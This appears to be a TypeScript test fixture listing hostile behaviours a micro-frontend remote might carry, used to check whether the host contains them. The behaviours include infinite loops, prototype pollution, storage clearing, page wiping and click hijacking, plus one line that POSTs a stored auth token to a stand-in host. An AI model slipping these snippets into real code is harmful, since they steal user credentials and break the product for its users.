/** Code that a remote of a hurried or hostile team could contain, and where it runs. */
export interface Hostile {
  name: string;
  /** When the file of the page is loaded, while the page renders, or after each mount. */
  at: 'import' | 'render' | 'effect';
  code: string;
  /** Whether the rest of the product stays usable; false for what a page cannot prevent. */
  isContained: boolean;
}

export const hostileRemotes: Hostile[] = [
  {
    name: 'throws while its file is loaded',
    at: 'import',
    code: "throw new Error('import')",
    isContained: true,
  },
  { name: 'throws while it renders', at: 'render', code: "throw new Error('render')", isContained: true },
  { name: 'throws in an effect', at: 'effect', code: "throw new Error('effect')", isContained: true },
  {
    name: 'throws later',
    at: 'effect',
    code: "setTimeout(() => { throw new Error('later') }, 100)",
    isContained: true,
  },
  {
    name: 'leaves a rejected promise',
    at: 'effect',
    code: "void Promise.reject(new Error('promise'))",
    isContained: true,
  },
  { name: 'never finishes loading', at: 'render', code: 'throw new Promise(() => {})', isContained: true },
  { name: 'sets state in every render', at: 'render', code: 'setTurn(turn + 1)', isContained: true },
  { name: 'sets state in every effect', at: 'effect', code: 'setTurn(turn + 1)', isContained: true },
  { name: 'loops for ever in a render', at: 'render', code: 'for (;;);', isContained: true },
  { name: 'loops for ever in an effect', at: 'effect', code: 'for (;;);', isContained: true },
  {
    name: 'replaces fetch',
    at: 'effect',
    code: "window.fetch = () => Promise.reject(new Error('mine'))",
    isContained: true,
  },
  {
    name: 'changes the prototype of arrays',
    at: 'effect',
    code: 'Array.prototype.map = () => []',
    isContained: true,
  },
  {
    name: 'adds a property to every object',
    at: 'effect',
    code: 'Object.assign(Object.prototype, { mine: 1 })',
    isContained: true,
  },
  {
    name: 'replaces history.pushState',
    at: 'effect',
    code: 'history.pushState = () => {}',
    isContained: true,
  },
  // Signs this tab out; the others keep the session.
  { name: 'clears the local storage', at: 'effect', code: 'localStorage.clear()', isContained: false },
  { name: 'clears the session storage', at: 'effect', code: 'sessionStorage.clear()', isContained: true },
  {
    name: 'hides everything by a style element',
    at: 'effect',
    code: "document.head.appendChild(document.createElement('style')).textContent = 'main { display: none }'",
    isContained: true,
  },
  {
    name: 'hides everything by an adopted style sheet',
    at: 'effect',
    code: "const sheet = new CSSStyleSheet(); sheet.replaceSync('main { display: none }'); document.adoptedStyleSheets.push(sheet)",
    isContained: true,
  },
  { name: 'empties the page', at: 'effect', code: "document.body.innerHTML = ''", isContained: false },
  { name: 'writes the document anew', at: 'effect', code: "document.write('mine')", isContained: false },
  {
    name: 'covers the page',
    at: 'effect',
    code: "document.body.appendChild(document.createElement('div')).style.cssText = 'position:fixed;inset:0;z-index:99999;background:red'",
    isContained: false,
  },
  { name: 'leaves the product', at: 'effect', code: "location.href = 'about:blank'", isContained: false },
  {
    name: 'goes elsewhere on every visit',
    at: 'effect',
    code: "history.pushState(null, '', '/login'); dispatchEvent(new PopStateEvent('popstate'))",
    isContained: true,
  },
  {
    name: 'leaves an interval running',
    at: 'effect',
    code: 'setInterval(() => document.title, 50)',
    isContained: true,
  },
  { name: 'compiles text', at: 'effect', code: "void new Function('return 1')()", isContained: true },
  {
    name: 'sends data to another origin',
    at: 'effect',
    code: "void fetch('https://example.invalid/steal', { method: 'POST', body: localStorage['auth.token'] }).catch(() => {})",
    isContained: true,
  },
  {
    name: 'keeps memory on every visit',
    at: 'effect',
    code: '((window as never as { kept: unknown[] }).kept ??= []).push(new Array(2_000_000).fill(1))',
    isContained: true,
  },
  // Last, since a remote that crashes is replaced by the build before it, which must not be this one.
  {
    name: 'leaves listeners that swallow every click',
    at: 'effect',
    code: "addEventListener('click', (event) => { event.stopImmediatePropagation(); event.preventDefault() }, true)",
    isContained: false,
  },
];
